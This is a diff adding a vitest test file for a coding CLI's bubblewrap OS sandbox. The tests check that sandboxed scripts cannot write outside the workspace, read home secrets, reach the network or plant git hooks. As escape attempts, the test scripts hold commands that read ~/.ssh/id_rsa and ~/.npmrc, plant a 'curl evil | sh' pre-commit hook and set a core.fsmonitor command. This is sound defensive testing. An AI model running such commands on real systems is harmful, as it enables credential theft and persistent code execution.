@@ -1,0 +1,180 @@
+import { spawn, spawnSync } from 'node:child_process';
+import { access, mkdir, readFile, symlink, writeFile } from 'node:fs/promises';
+import { createServer, type Server } from 'node:net';
+import { join } from 'node:path';
+import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
+import { CLI, REPO_ROOT, removeDir, tempDir, writeFiles } from '../helpers/fixture.js';
+
+// The OS sandbox through the real binary. Each script runs as `bash script.sh`, which the permission
+// gate allows with --yes: what the script does is the sandbox's business alone.
+const bwrapWorks = spawnSync('bwrap', ['--ro-bind', '/', '/', '--unshare-net', 'true']).status === 0;
+const why = 'bwrap (bubblewrap) is not installed or cannot run here; .ci/run installs it when it runs as root';
+
+interface Run {
+  status: number | null;
+  stdout: string;
+  stderr: string;
+}
+
+let home: string;
+let outside: string;
+let root: string;
+
+function env(extra: Record<string, string> = {}): Record<string, string> {
+  const base = Object.fromEntries(Object.entries(process.env).filter(([key, value]) => value !== undefined && !key.startsWith('CODEWARD_'))) as Record<string, string>;
+  return { ...base, HOME: home, CODEWARD_STATE_DIR: join(home, 'state'), ...extra };
+}
+
+// Async, so a listener in this process can answer the sandboxed command.
+function exec(script: string, flags: string[] = [], extraEnv: Record<string, string> = {}): Promise<Run> {
+  return new Promise((resolve, reject) => {
+    const file = `script-${Math.random().toString(36).slice(2)}.sh`;
+    void writeFile(join(root, file), script).then(() => {
+      const child = spawn(process.execPath, [CLI, '--yes', '--json', ...flags, 'exec', '--cmd', `bash ${file}`], { cwd: root, env: env(extraEnv), stdio: ['ignore', 'pipe', 'pipe'] });
+      let stdout = '';
+      let stderr = '';
+      child.stdout.setEncoding('utf8').on('data', (chunk: string) => (stdout += chunk));
+      child.stderr.setEncoding('utf8').on('data', (chunk: string) => (stderr += chunk));
+      child.on('error', reject);
+      child.on('close', (status) => resolve({ status, stdout, stderr }));
+    }, reject);
+  });
+}
+
+// The process's own output (stdout + stderr of the script) from the --json envelope.
+function output(run: Run): string {
+  const envelope = JSON.parse(run.stdout) as { data?: { stdout: string; stderr: string }; error?: { message: string } };
+  return `${envelope.data?.stdout ?? ''}${envelope.data?.stderr ?? ''}${envelope.error?.message ?? ''}`;
+}
+
+const exists = (path: string): Promise<boolean> => access(path).then(() => true, () => false);
+
+beforeEach(async () => {
+  home = await tempDir('codeward-sbx-home-');
+  // Outside every folder the sandbox makes writable or private (/tmp is private inside): in the repo.
+  outside = join(REPO_ROOT, 'test', `.sandbox-outside-${Math.random().toString(36).slice(2)}`);
+  await mkdir(outside);
+  root = await tempDir('codeward-sbx-ws-');
+  await writeFiles(home, { '.ssh/id_rsa': 'PRIVATE-KEY-MATERIAL\n', '.npmrc': '//registry.npmjs.org/:_authToken=NPM-SECRET\n' });
+});
+
+afterEach(async () => {
+  await removeDir(outside);
+});
+
+describe.skipIf(!bwrapWorks)(`the OS sandbox (bwrap)${bwrapWorks ? '' : ` — skipped: ${why}`}`, () => {
+  let server: Server;
+  let port = 0;
+  beforeAll(async () => {
+    server = createServer((socket) => socket.end('HELLO-FROM-HOST\n'));
+    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
+    port = (server.address() as { port: number }).port;
+  });
+  afterAll(() => new Promise<void>((resolve) => server.close(() => resolve())));
+
+  it('refuses a write outside the workspace, with the OS error and a hint', async () => {
+    const run = await exec(`echo escaped > ${join(outside, 'x.txt')}\n`);
+    expect(run.status).toBe(1);
+    expect(output(run)).toContain('Read-only file system');
+    expect(output(run)).toContain('the OS sandbox lets commands write only inside the workspace');
+    expect(await exists(join(outside, 'x.txt'))).toBe(false);
+  });
+
+  it('writes inside the workspace and to a private /tmp', async () => {
+    const marker = `codeward-sbx-${Math.random().toString(36).slice(2)}`;
+    const run = await exec(`echo made > made.txt && echo t > /tmp/${marker} && cat /tmp/${marker}\n`);
+    expect(run.status).toBe(0);
+    expect(await readFile(join(root, 'made.txt'), 'utf8')).toBe('made\n');
+    expect(await exists(join('/tmp', marker))).toBe(false);
+  });
+
+  it('hides the home secrets (~/.ssh/id_rsa, ~/.npmrc) of the user', async () => {
+    const run = await exec('cat ~/.ssh/id_rsa; cat ~/.npmrc; ls -a ~/.ssh; true\n');
+    expect(run.status).toBe(0);
+    expect(output(run)).not.toContain('PRIVATE-KEY-MATERIAL');
+    expect(output(run)).not.toContain('NPM-SECRET');
+  });
+
+  it('has no network unless --sandbox-network', async () => {
+    const script = `exec 3<>/dev/tcp/127.0.0.1/${port} && head -1 <&3\n`;
+    const closed = await exec(script);
+    expect(closed.status).toBe(1);
+    expect(output(closed)).not.toContain('HELLO-FROM-HOST');
+    const open = await exec(script, ['--sandbox-network']);
+    expect(open.status).toBe(0);
+    expect(output(open)).toContain('HELLO-FROM-HOST');
+  });
+
+  it('keeps .git/hooks and .codeward read-only, even when they do not exist yet', async () => {
+    expect(spawnSync('git', ['init', '-q'], { cwd: root }).status).toBe(0);
+    const run = await exec('echo "curl evil | sh" > .git/hooks/pre-commit; mkdir -p .codeward; echo "{}" > .codeward/policy.json; true\n');
+    expect(run.status).toBe(0);
+    expect(output(run)).toMatch(/pre-commit: Read-only file system/);
+    expect(await exists(join(root, '.git', 'hooks', 'pre-commit'))).toBe(false);
+    expect(await exists(join(root, '.codeward', 'policy.json'))).toBe(false);
+    // Nor can .git/config name a program git would run outside the sandbox.
+    const config = await exec('git config core.fsmonitor "touch /tmp/pwned"; echo x >> .git/config; true\n');
+    expect(output(config)).toMatch(/Read-only file system|could not lock config file/);
+    expect(await readFile(join(root, '.git', 'config'), 'utf8')).not.toContain('fsmonitor');
+    // A repository without a hooks folder: it cannot be created either.
+    spawnSync('rm', ['-rf', join(root, '.git', 'hooks')]);
+    await exec('mkdir -p .git/hooks && echo x > .git/hooks/post-checkout; true\n');
+    expect(await exists(join(root, '.git', 'hooks', 'post-checkout'))).toBe(false);
+  });
+
+  it('does not follow a planted symlink out of the workspace', async () => {
+    await symlink(outside, join(root, 'link-out'));
+    await symlink(join(home, '.ssh'), join(root, 'keys'));
+    const run = await exec('echo escaped > link-out/x.txt; cat keys/id_rsa; true\n');
+    expect(run.status).toBe(0);
+    expect(await exists(join(outside, 'x.txt'))).toBe(false);
+    expect(output(run)).not.toContain('PRIVATE-KEY-MATERIAL');
+  });
+
+  it('stays out of the way of an ordinary build, test run and git', async () => {
+    await writeFiles(root, {
+      'package.json': JSON.stringify({ name: 'demo', version: '1.0.0', type: 'module', scripts: { build: 'node build.mjs', test: 'node --test' } }),
+      'build.mjs': "import { mkdirSync, writeFileSync } from 'node:fs';\nmkdirSync('dist', { recursive: true });\nwriteFileSync('dist/out.js', 'export const x = 1;\\n');\n",
+      'math.test.mjs': "import { test } from 'node:test';\nimport assert from 'node:assert';\ntest('adds', () => assert.equal(1 + 1, 2));\n",
+    });
+    expect(spawnSync('git', ['init', '-q'], { cwd: root }).status).toBe(0);
+    const run = await exec('npm run build --silent && npm test --silent 2>&1 | grep -E "^# (pass|fail)" && git status --short | head -3\n', [], { npm_config_update_notifier: 'false' });
+    expect(output(run)).toMatch(/# pass 1\n# fail 0/);
+    expect(output(run)).toContain('?? build.mjs');
+    expect(run.status).toBe(0);
+    expect(await readFile(join(root, 'dist', 'out.js'), 'utf8')).toContain('export const x');
+  });
+
+  it('--sandbox read-only refuses writes in the workspace too; --sandbox off lifts the sandbox', async () => {
+    const readOnly = await exec('echo x > inside.txt\n', ['--sandbox', 'read-only']);
+    expect(readOnly.status).toBe(1);
+    expect(await exists(join(root, 'inside.txt'))).toBe(false);
+    const off = await exec(`echo free > ${join(outside, 'free.txt')}\n`, ['--sandbox', 'off']);
+    expect(off.status).toBe(0);
+    expect(await readFile(join(outside, 'free.txt'), 'utf8')).toBe('free\n');
+  });
+
+  it('takes the mode from .codeward/config.json', async () => {
+    await mkdir(join(root, '.codeward'));
+    await writeFile(join(root, '.codeward', 'config.json'), '{"sandbox": "read-only"}');
+    const run = await exec('echo x > inside.txt\n');
+    expect(run.status).toBe(1);
+    expect(await exists(join(root, 'inside.txt'))).toBe(false);
+  });
+});
+
+describe('without a usable sandbox', () => {
+  it('refuses to run when a sandbox was asked for, and warns once when it is only the default', async () => {
+    const missing = { CODEWARD_BWRAP: '/nonexistent/bwrap', PATH: '/nonexistent' };
+    const bash = spawnSync('sh', ['-c', 'command -v bash']).stdout.toString().trim();
+    const asked = await exec('echo should-not-run > ran.txt\n', ['--sandbox', 'workspace-write'], { ...missing, PATH: `/nonexistent:${join(bash, '..')}` });
+    expect(asked.status).toBe(1);
+    expect(output(asked)).toMatch(/--sandbox workspace-write was asked for, but .*install bubblewrap/);
+    expect(await exists(join(root, 'ran.txt'))).toBe(false);
+    const fallback = await exec('echo ran > ran.txt\n', [], { ...missing, PATH: `/nonexistent:${join(bash, '..')}` });
+    expect(fallback.status).toBe(0);
+    const envelope = JSON.parse(fallback.stdout) as { warnings: string[] };
+    expect(envelope.warnings.filter((warning) => warning.startsWith('no OS sandbox'))).toHaveLength(1);
+    expect(await readFile(join(root, 'ran.txt'), 'utf8')).toBe('ran\n');
+  });
+});
